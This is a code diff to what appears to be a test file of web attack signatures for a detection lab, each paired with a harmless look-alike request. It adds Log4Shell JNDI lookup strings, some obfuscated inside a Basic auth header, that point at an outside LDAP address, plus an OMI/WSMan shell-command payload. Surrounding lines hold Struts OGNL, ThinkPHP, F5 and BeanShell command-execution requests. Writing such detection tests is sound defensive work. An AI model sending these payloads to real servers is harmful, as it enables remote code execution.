@@ -1,5 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """Web themes: scanners, Java frameworks, injection, products, web shells."""
+import base64
+
 from craft import request, response
 from talk import APP, INNER, OFFICE, OUTSIDE, agent, back, form_file, get, many, out, ping, post, tcp, web
 
@@ -11,6 +13,10 @@ B64 = 'Zm9yIHRoZSBsYWJvcmF0b3J5IG9ubHk'
 
 def q(text):
     return web(get('/list?' + text))
+
+
+def basic(text):
+    return web(get('/', 'Authorization: Basic ' + base64.b64encode(text.encode()).decode()))
 
 
 SCAN = [
@@ -59,6 +65,9 @@ JAVA = [
         LDAP_HEAD + b'\x04\x12javaSerializedData1\x12\x04\x10\xac\xed\x00\x05sr\0\0\0\0')),
      tcp(INNER, OUTSIDE, 1389, b'0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0', back(
          LDAP_HEAD + b'\x04\x12javaSerializedData1\x12\x04\x10' + b'empty-attribute-value'))),
+    (S + 109, web(get('/?q=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Aldap%7D%3A%2F%2F203.0.113.66%2Fa%7D')), web(get('/?q=%24%7Blower%3Aname%7D'))),
+    (S + 129, [basic(user + ':${${::-j}ndi:ldap://203.0.113.66/a}') for user in ('lab', 'labo', 'labor')],
+     [basic(user + ':$pa{ss}wo$rd') for user in ('lab', 'labo', 'labor')]),
     (S + 110, web(request('/index.action', headers=("Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",))),
      web(post('/wiki', 'text=@ognl.OgnlContext+explained'))),
     (S + 111, web(get('/${%28%23_memberAccess%3D%23dm%29.%28%23cmd%3D%27id%27%29}/help.action')), web(get('/docs/memberAccess#section'))),
@@ -114,6 +123,8 @@ INJECT = [
      [web(get('/cgi-bin/help'), response(UID, kind='text/plain')), web(get('/l?id=1'), response(b'<a href="?uid=33&gid=4">'))]),
 ]
 
+OMI = '<p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command></p:ExecuteShellCommand_INPUT>'
+
 PRODUCT = [
     (S + 116, web(get('/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1')),
      web(get('/index.php?s=/Index/docs&q=invokefunction'))),
@@ -125,6 +136,8 @@ PRODUCT = [
     (S + 158, web(post('/mgmt/tm/util/bash', '{"command":"run","utilCmdArgs":"-c id"}', kind='application/json')), web(get('/mgmt/tm/util/bash'))),
     (S + 159, web(get('/autodiscover/autodiscover.json?a@city.example/mapi/nspi/?&Email=autodiscover/autodiscover.json')),
      web(get('/autodiscover/autodiscover.json?Email=a%40city.example&Protocol=ActiveSync'))),
+    (S + 160, web(post('/wsman', OMI, kind='application/soap+xml'), port=5985),
+     web(post('/wsman', OMI, 'Authorization: Basic bGFiOmxhYg==', kind='application/soap+xml'), client=INNER, port=5985)),
     (S + 161, web(post('/seeyon/htmlofficeservlet', 'DBSTEP V3.0     355             0               666             DBSTEP=OKMLlKlV')),
      web(post('/seeyon/htmlofficeservlet', 'OPTION=LOADFILE'))),
     (S + 162, web(post('/weaver/bsh.servlet.BshServlet', 'bsh.script=exec(%22whoami%22);&bsh.servlet.output=raw')), web(get('/weaver/bsh.servlet.BshServlet'))),
